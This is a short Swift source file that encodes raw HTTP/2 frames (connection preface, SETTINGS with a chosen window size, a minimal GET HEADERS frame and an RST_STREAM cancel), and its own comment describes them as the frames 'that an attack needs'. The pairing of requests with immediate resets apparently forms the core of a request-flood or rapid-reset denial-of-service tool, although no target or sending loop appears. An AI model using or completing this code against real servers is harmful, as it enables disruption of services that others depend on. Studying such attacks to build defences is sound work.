/// The few frames of HTTP/2 that an attack needs (RFC 9113).
public enum StreamFrames {
    /// The first bytes of a connection, with settings that let the server send that many bytes of each answer.
    public static func opening(windowBytes: UInt32) -> [UInt8] {
        let initialWindow: [UInt8] = [0, 4] + bigEndian(windowBytes)
        return Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + frame(type: 4, flags: 0, stream: 0, initialWindow)
            + frame(type: 4, flags: 1, stream: 0, [])
    }

    /// A GET without a body; the streams of a client have odd numbers.
    public static func get(_ path: String, stream: UInt32) -> [UInt8] {
        // Method GET and scheme https by their index in the static table; path and authority as they are.
        let headers: [UInt8] =
            [0x82, 0x87, 0x04, UInt8(path.utf8.count)] + Array(path.utf8) + [0x41, 1] + Array("x".utf8)
        return frame(type: 1, flags: 0x05, stream: stream, headers)
    }

    /// Gives up a request.
    public static func reset(stream: UInt32) -> [UInt8] { frame(type: 3, flags: 0, stream: stream, bigEndian(8)) }

    private static func frame(type: UInt8, flags: UInt8, stream: UInt32, _ payload: [UInt8]) -> [UInt8] {
        bigEndian(UInt32(payload.count)).dropFirst() + [type, flags] + bigEndian(stream) + payload
    }

    private static func bigEndian(_ number: UInt32) -> [UInt8] {
        withUnsafeBytes(of: number.bigEndian) { Array($0) }
    }
}
